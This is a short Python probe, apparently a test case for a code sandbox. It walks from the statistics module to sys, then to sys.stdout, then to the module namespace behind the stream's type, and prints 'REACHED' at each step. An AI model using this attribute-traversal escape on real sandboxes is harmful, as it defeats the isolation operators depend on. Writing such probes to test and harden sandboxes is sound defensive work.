# attack: the stream that stands for stdout is the host's own object: its attributes lead to the file and the module behind it
# family: attribute
import statistics
def of(module):
    return module.sys
stream = of(statistics).stdout
print("REACHED", type(stream), [name for name in dir(stream) if not name.startswith("__")])
space = of(statistics).modules[type(stream).__module__].__dict__
print("REACHED", sorted(space)[:12])
